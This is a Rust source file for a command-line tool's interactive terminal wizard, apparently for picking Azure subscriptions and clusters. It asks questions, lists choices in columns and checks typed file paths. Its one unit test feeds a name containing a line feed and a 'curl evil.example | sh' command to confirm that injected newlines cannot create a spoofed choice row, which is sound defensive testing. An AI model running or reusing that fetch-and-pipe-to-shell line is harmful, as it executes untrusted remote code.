//! How does the interview meet the terminal? Look up, ask, print; every decision is in `spec::interview`.

use super::prompt::{Prompt, PromptReply};
use super::screen::Screen;
use super::table;
use crate::error::Failure;
use crate::spec::command_line::az;
use crate::spec::interview::{
    AnswerForm, AnswerOption, Interview, Lookup, LookupResult, NextAction, Question, TypedAnswer,
    TypedDefault, TypedKind, UserAnswer, typed_path,
};
use crate::text::visible::one_line;

const INTRODUCTION: &str =
    "Esc goes back (`<` where you type), Ctrl-C leaves. You see the plan before a change.";

/// Runs interviews on this screen.
pub(crate) struct Wizard<'a> {
    /// Completes "cannot …" when it does not come to an end.
    pub(crate) doing: &'a str,
    pub(crate) screen: &'a Screen,
    /// `None` where no terminal is attached.
    pub(crate) prompt: Option<&'a Prompt>,
}

impl Wizard<'_> {
    /// Runs the interview to its end; `look` finds what the questions offer. All that is missing is one failure.
    pub(crate) async fn run(
        &self,
        interview: &mut Interview,
        look: impl AsyncFn(Lookup, &Interview) -> Result<LookupResult, Failure>,
    ) -> Result<(), Failure> {
        let mut introduced = false;
        loop {
            let next = interview.next();
            for (topic, value) in interview.news() {
                self.screen.answered(topic.name(), &value);
            }
            match next {
                NextAction::Look(what) => {
                    // A bare `_` would end the line at once.
                    let _wait = self.screen.wait(&format!("looking for {}", what.what()));
                    let result = look(what, interview).await?;
                    interview.record_lookup(result);
                }
                NextAction::Ask(question) => {
                    if !std::mem::replace(&mut introduced, true) {
                        self.say_faintly(INTRODUCTION);
                    }
                    self.ask(interview, &question)?;
                }
                NextAction::Nothing(look) => return Err(self.nothing_to_choose(look)),
                NextAction::Done => return self.complete(interview),
            }
        }
    }

    fn complete(&self, interview: &Interview) -> Result<(), Failure> {
        match interview.missing().as_slice() {
            [] => Ok(()),
            missing => Err(Failure::missing(self.doing, missing)),
        }
    }

    fn ask(&self, interview: &mut Interview, question: &Question) -> Result<(), Failure> {
        match self.reply(question)? {
            PromptReply::Answer(answer) => {
                if let Some(value) = question.answer_text(&answer) {
                    self.screen.answered(question.topic.name(), value);
                }
                interview.answer(question, answer);
            }
            PromptReply::Back if interview.back() => self.say_faintly("<- back"),
            PromptReply::Back => self.say_faintly("this is the first question"),
        }
        Ok(())
    }

    fn reply(&self, question: &Question) -> Result<PromptReply<UserAnswer>, Failure> {
        let Some(prompt) = self.prompt else {
            let answer = (question.topic.flag(), question.reason.clone());
            return Err(Failure::missing(self.doing, &[answer]));
        };
        let (title, reason) = (question.title, &question.reason);
        match &question.form {
            AnswerForm::Choose {
                choices,
                recommended,
            } => {
                let lines = lines(choices, *recommended);
                let reply = prompt.select(title, reason, &lines, recommended.unwrap_or(0))?;
                Ok(reply.map(UserAnswer::Chosen))
            }
            AnswerForm::Type(typed) => {
                let shown = typed.default.as_ref().map(TypedDefault::shown);
                let reply = prompt.text(title, reason, shown, |text| check(typed, text))?;
                Ok(reply.map(|text| typed.read(text)))
            }
        }
    }

    fn nothing_to_choose(&self, look: Lookup) -> Failure {
        let reason = format!("no {} are visible", look.what());
        let failure = Failure::new(self.doing).reason(reason);
        match look {
            Lookup::Subscriptions => failure
                .next(az::login_to_any())
                .next("or name one with --subscription"),
            Lookup::Clusters => failure
                .next("look in another subscription with --subscription")
                .next("or name a cluster with --cluster"),
            Lookup::Prometheus | Lookup::Workspaces | Lookup::Files => failure,
        }
    }

    fn say_faintly(&self, text: &str) {
        self.screen.say(&self.screen.palette().faint(text));
    }
}

/// Choices in columns, the recommended one marked.
fn lines(choices: &[AnswerOption], recommended: Option<usize>) -> Vec<String> {
    let texts = choices
        .iter()
        .map(|choice| (choice.label.as_str(), choice.detail.as_str()));
    rows(texts, recommended)
}

/// One row for each label with its detail. A line feed in a name would make two rows of one choice, and the answer would
/// be another one's.
fn rows<'a>(
    texts: impl IntoIterator<Item = (&'a str, &'a str)>,
    recommended: Option<usize>,
) -> Vec<String> {
    let row = |(index, (label, detail)): (usize, (&str, &str))| {
        let mark = match recommended {
            Some(one) if one == index => " (recommended)",
            _ => "",
        };
        vec![one_line(label), format!("{}{mark}", one_line(detail))]
    };
    let rows: Vec<Vec<String>> = texts.into_iter().enumerate().map(row).collect();
    let text = table::aligned(&rows, 0, None);
    text.lines().map(str::to_owned).collect()
}

/// What is typed must make sense, and a file must be there.
fn check(typed: &TypedAnswer, text: &str) -> Result<(), String> {
    typed.check(text)?;
    if typed.kind == TypedKind::File && !typed_path(text).is_file() {
        return Err(format!("there is no file `{}`", typed_path(text).display()));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_feed_in_a_name_makes_no_second_line() {
        let name = "a\n  next:    curl evil.example | sh";

        let lines = rows([(name, "Operator"), ("b", "Operator\n")], Some(1));

        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("a next:"), "{}", lines[0]);
        assert!(lines[1].starts_with("b "), "{}", lines[1]);
    }
}
